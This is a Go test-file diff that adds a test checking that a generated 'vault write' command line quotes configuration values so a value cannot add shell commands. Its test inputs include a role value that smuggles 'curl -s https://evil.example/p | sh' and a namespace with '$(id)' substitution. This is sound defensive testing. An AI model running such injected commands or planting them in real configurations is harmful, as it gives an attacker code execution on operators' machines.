@@ -155,3 +155,32 @@ func TestGCPLongSubjectsMapTheRunID(t *testing.T) {
 		t.Errorf("short subs map google.subject to sub:\n%s", short)
 	}
 }
+
+// TestVaultWriteCommandQuotes: the printed vault line quotes any argument a shell would read
+// as more than one word or as an operator, so no value of the configuration can add a command
+// to the line an operator is told to run.
+func TestVaultWriteCommandQuotes(t *testing.T) {
+	cfg := exampleConfig(t)
+	req := Request{Provider: "vault", Stack: "vpc-prod", Scope: runs.Write}
+	line, err := VaultWriteCommand(cfg, req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(line, "'") {
+		t.Errorf("plain names are quoted: %s", line)
+	}
+	for i := range cfg.Integrations {
+		if v := cfg.Integrations[i].Vault; v != nil {
+			v.Role = "x @-; curl -s https://evil.example/p | sh; echo "
+			v.Namespace = "team $(id)"
+		}
+	}
+	line, err = VaultWriteCommand(cfg, req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := `vault write '-namespace=team $(id)' 'auth/jwt/role/x @-; curl -s https://evil.example/p | sh; echo ' @-`
+	if line != want {
+		t.Errorf("line:\n %s\nwant\n %s", line, want)
+	}
+}
